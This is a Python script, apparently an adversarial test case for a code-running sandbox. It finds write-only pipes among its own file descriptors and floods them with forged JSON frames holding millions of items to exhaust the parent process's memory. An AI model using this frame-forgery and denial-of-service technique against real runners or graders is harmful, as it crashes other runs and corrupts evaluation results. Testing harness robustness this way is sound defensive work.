# prepend: solution
# copies: 2
# Threat: forge frames of bare JSON scalars straight onto the data channel (a million floats or distinct strings
# in 8 MiB): parsed, each is a Python object of 30-60 bytes, in every run at once.
import fcntl
import json
import os
import stat
import struct

def frame(message):
    payload = json.dumps(message, separators=(",", ":")).encode()
    return struct.pack(">I", len(payload)) + payload

def channels():
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                yield fd
        except OSError:
            pass

floats = frame({"type": "value", "name": "x", "stmt": 0, "value": {"t": "list", "items": [1.5 + i for i in range(800_000)]}})
strings = frame({"type": "value", "name": "w", "stmt": 0, "value": {"t": "list", "items": [f"{i:x}" for i in range(800_000)]}})
names = frame({"type": "statement", "index": 0, "line": 1, "status": "ok", "assigns": [7] * 3_000_000})
for fd in channels():
    for data in (floats, strings, names, floats):
        try:
            os.write(fd, data)
        except OSError:
            pass
print("forged")
